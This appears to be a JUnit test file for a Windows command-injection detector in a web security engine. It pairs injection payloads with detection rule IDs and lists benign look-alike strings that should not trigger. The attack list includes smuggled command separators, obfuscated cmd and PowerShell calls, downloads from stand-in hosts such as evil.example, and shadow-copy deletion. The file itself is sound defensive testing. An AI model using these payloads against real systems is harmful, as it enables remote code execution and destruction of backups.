package ai.traceable.tme.engine.detect.wincmd;

import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

class WindowsCommandDetectorTest extends DetectorTableTest {
  private static final WindowsCommandDetector DETECTOR = new WindowsCommandDetector();

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        a(Placement.QUERY, "host", "127.0.0.1 & dir c:\\", "wincmd-100"),
        a(Placement.QUERY, "domain", "example.com | type C:\\Windows\\win.ini", "wincmd-100"),
        a(Placement.QUERY, "host", "10.0.0.1 & w^h^o^a^m^i", "wincmd-100"),
        a(Placement.QUERY, "name", "\"&calc&\"", "wincmd-100"),
        a(Placement.JSON, "queue", "HP-2 && systeminfo", "wincmd-100"),
        a(Placement.QUERY, "f", "x & type %WINDIR%\\system.ini", "wincmd-100"),
        a(Placement.QUERY, "host", "1.1.1.1 | ping -n 11 127.0.0.1", "wincmd-100"),
        a(Placement.QUERY, "cmd", "cmd.exe /c ver", "wincmd-110"),
        a(Placement.JSON, "options", "%COMSPEC% /c whoami", "wincmd-110"),
        a(Placement.JSON, "pre", "%ProgramData:~0,1%%ProgramData:~9,2% /c calc", "wincmd-110"),
        a(Placement.QUERY, "n", "1 & set /a 7*7", "wincmd-110"),
        a(Placement.QUERY, "c", "powershell -enc SQBuAHYAbwBrAGUA", "wincmd-120"),
        a(Placement.HEADER, "x-tag", "; Invoke-Expression (Get-Item env:X).Value", "wincmd-120"),
        a(
            Placement.JSON,
            "filter",
            "iex(iwr http://evil.example/r -UseBasicParsing)",
            "wincmd-120"),
        a(Placement.FORM, "task", "[System.Diagnostics.Process]::Start(\"cmd.exe\")", "wincmd-120"),
        a(Placement.QUERY, "name", "a.txt; Get-Content C:\\inetpub\\web.config", "wincmd-121"),
        a(
            Placement.FORM,
            "url",
            "x & certutil -urlcache -split -f http://e.example/p.exe",
            "wincmd-130"),
        a(Placement.QUERY, "p", "wmic process call create \"calc.exe\"", "wincmd-130"),
        a(Placement.QUERY, "drive", "C: & vssadmin delete shadows /all /quiet", "wincmd-130"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        b(Placement.JSON, "localPath", "C:\\Users\\alice\\Documents\\Quarterly report.docx"),
        b(Placement.JSON, "installDir", "%ProgramFiles%\\Acme\\Agent"),
        b(Placement.JSON, "message", "Could you run Get-ChildItem in PowerShell and paste it?"),
        b(Placement.QUERY, "q", "Tom & Jerry | Season 2"),
        b(Placement.FORM, "company", "Smith & Sons; Ltd."),
        b(Placement.QUERY, "cmd", "_s-xclick"),
        b(Placement.JSON, "options", "Set the dir to /var/data before the nightly run"),
        b(Placement.QUERY, "delimiter", "|"),
        b(Placement.JSON, "text", "ping me when ready & I'll review it"),
        b(Placement.JSON, "queue", "PRN-04 & PRN-05"),
        b(Placement.FORM, "title", "Net user count for Q2"),
        b(Placement.JSON, "name", "Start-up checklist"),
        b(Placement.JSON, "vimrc", "set number\nset expandtab shiftwidth=2"),
        b(Placement.JSON, "note", "salt & pepper | type of dish: soup"),
        b(Placement.JSON, "title", "Bash & PowerShell tips for admins"),
        b(Placement.JSON, "title", "SFTP & FTP access for partners"),
        b(Placement.JSON, "terms", "fees & net 30% of the total"),
        b(Placement.JSON, "keys", "Ctrl & Cmd shortcuts"),
        b(Placement.JSON, "title", "Onboarding & Set-up guide; Get-Started here"),
        b(Placement.JSON, "text", "Please run Invoke-WebRequest against the health endpoint"),
        b(
            Placement.JSON,
            "code",
            "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 5MB } | Remove-Item"));
  }
}
